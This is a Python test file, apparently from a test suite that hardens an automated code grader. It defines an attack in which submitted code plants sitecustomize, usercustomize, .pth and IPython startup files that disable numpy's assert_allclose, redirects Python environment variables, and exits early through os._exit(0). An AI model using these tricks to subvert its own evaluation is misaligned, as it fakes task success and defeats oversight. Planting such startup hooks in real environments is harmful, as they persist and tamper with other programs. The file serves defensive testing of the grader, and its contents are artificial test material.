"""47. Leaves `sitecustomize`, `usercustomize` and `.pth` files for Python to run at its next start.

Verdict: refused where packages are installed. In its own folder they lie until it is emptied: no
Python of the grader looks there, nor into a home folder.
"""

from hostile import Attack

ATTACK = Attack(
    times=2,
    first="""
import builtins, os, site, sys, sysconfig
print("ran before:", hasattr(builtins, "hostile"))
CODE = "import builtins, numpy; builtins.hostile = 1; numpy.testing.assert_allclose = print"
installed = {*site.getsitepackages(), *sysconfig.get_paths().values(), os.path.dirname(os.__file__)}
at_home = (site.getusersitepackages(), os.path.expanduser("~"), os.getcwd(), "..",
           os.path.expanduser(f"~/.local/lib/python3.{sys.version_info.minor}/site-packages"),
           os.path.expanduser("~/.ipython/profile_default/startup"))
done = {True: 0, False: 0}
for places in (installed, at_home):
    for place in places:
        for name in ("hostile-start.pth", "sitecustomize.py", "usercustomize.py", "00-start.py",
                     "pyvenv.cfg", "hostile.egg-link"):
            if os.path.exists(f"{place}/{name}"):
                continue
            try:
                os.makedirs(place, exist_ok=True)
                with open(f"{place}/{name}", "w") as file:
                    file.write(CODE)
                done[places is installed] += 1
            except OSError:
                pass
print("installed:", done[True], "at home:", done[False])
os.environ.update(PYTHONPATH=os.getcwd(), PYTHONUSERBASE=os.getcwd(), PYTHONHOME=os.getcwd())
""",
    answers={
        "truncate": "def truncate(A, k):\n    return 0 * A",
        "psnr": "import os\nos._exit(0)",
    },
    earns={"truncate": 0, "psnr": 0},
    reports=("The difference between truncate", "psnr ended with Crash"),
    outputs=("ran before: False", r"installed: 0 at home: [1-9]\d"),
)
